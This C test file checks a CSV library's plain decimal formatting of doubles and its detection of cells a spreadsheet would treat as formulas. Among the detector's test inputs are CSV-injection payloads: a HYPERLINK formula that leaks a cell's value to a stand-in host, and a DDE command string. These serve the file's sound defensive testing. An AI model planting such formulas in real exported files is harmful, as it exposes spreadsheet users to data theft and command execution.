/*
 * test_csv_out.c - lib/csv_out.c: plain shortest decimals for any double,
 * and which text cells a spreadsheet would read as formulas.
 */
#include <math.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "csv_out.h"
#include "tap.h"

static void
real(double d, const char *want)
{
	char buf[NF_CSV_REAL_MAX];

	TAP_STR(nf_csv_format_real(d, buf), want, "%.17g prints as %s", d, want);
}

/* Significant digits of a plain decimal: digits after leading zeros and
 * before trailing zeros of the integer part. */
static int
significant(const char *s)
{
	int first = -1, last = -1, n = 0;

	for (const char *p = s; *p; p++) {
		if (*p < '0' || *p > '9')
			continue;
		if (*p != '0') {
			if (first < 0)
				first = n;
			last = n;
		}
		n++;
	}
	return first < 0 ? 1 : last - first + 1;
}

/* Every double from a spread of bit patterns reads back exactly, with no
 * exponent, and one digit fewer would not read back. */
static void
round_trips(void)
{
	char buf[NF_CSV_REAL_MAX], shorter[40];
	uint64_t x = 88172645463325252u;
	int bad = 0, checked = 0;

	for (int i = 0; i < 200000; i++) {
		double d;
		x ^= x << 13, x ^= x >> 7, x ^= x << 17;
		memcpy(&d, &x, sizeof d);
		if (!isfinite(d))
			continue;
		checked++;
		nf_csv_format_real(d, buf);
		int digits = significant(buf);
		snprintf(shorter, sizeof shorter, "%.*e", digits - 2, d);
		if (strtod(buf, NULL) != d || strpbrk(buf, "eE") != NULL ||
		    (digits > 1 && strtod(shorter, NULL) == d) ||
		    strlen(buf) >= NF_CSV_REAL_MAX) {
			if (bad++ < 5)
				printf("# %.17g printed as %s\n", d, buf);
		}
	}
	TAP_OK(bad == 0 && checked > 100000,
	    "%d random doubles print plain, shortest, and read back exactly", checked);
}

static void
formula(const char *s, bool want)
{
	TAP_OK(nf_csv_formula_like(s, strlen(s)) == want, "'%s' %s a formula", s,
	    want ? "could be" : "is not");
}

int
main(void)
{
	real(0.1, "0.1");
	real(33.33, "33.33");
	real(-3.5, "-3.5");
	real(1470000000, "1470000000");
	real(128.99, "128.99");
	real(1e-6, "0.000001");
	real(1e21, "1000000000000000000000");
	real(1e23, "100000000000000000000000");
	real(1.2345e21, "1234500000000000000000");
	real(9007199254740993.0, "9007199254740992");
	real(0.30000000000000004, "0.30000000000000004");
	real(-0.0, "0");
	real(0, "0");
	/* the smallest double: "0." then 323 zeros then 5 */
	char tiny[400] = "0.";
	memset(tiny + 2, '0', 323);
	strcpy(tiny + 325, "5");
	real(5e-324, tiny);
	/* the largest: 17 digits then 292 zeros, 309 digits in all */
	char huge[400] = "-17976931348623157";
	memset(huge + 18, '0', 292);
	huge[310] = '\0';
	real(-1.7976931348623157e308, huge);
	real(NAN, "");
	real(INFINITY, "");
	round_trips();

	formula("=HYPERLINK(\"http://x/?leak=\"&B2,\"click\")", true);
	formula("=1+1", true);
	formula("@SUM(A1)", true);
	formula("+cmd|' /C calc'!A0", true);
	formula("-2+3", true);
	formula("-5°C", true);
	formula("-", true);
	formula("\tx", true);
	formula("\rx", true);
	formula("-3.5", false);
	formula("+2", false);
	formula("-1,200.50", false);
	formula("-12%", false);
	formula("-1.5e3", false);
	formula("-1e", true);
	formula("-,5", true);
	formula("-5,", true);
	formula("January 20", false);
	formula(" =1", false);
	formula("", false);
	return tap_done();
}
